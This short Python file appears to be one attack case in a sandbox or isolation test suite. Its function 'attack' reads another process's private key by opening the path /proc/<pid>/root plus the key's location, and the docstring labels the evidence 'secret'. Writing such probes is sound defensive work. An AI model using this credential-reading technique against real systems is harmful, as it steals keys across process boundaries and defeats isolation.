"""Reach a key through another process's view of the file system, /proc/<pid>/root.

evidence: secret
"""


def attack(arena: dict[str, str]) -> object:
    with open(f"/proc/{arena['host']}/root{arena['private_key']}") as file:
        return file.read()
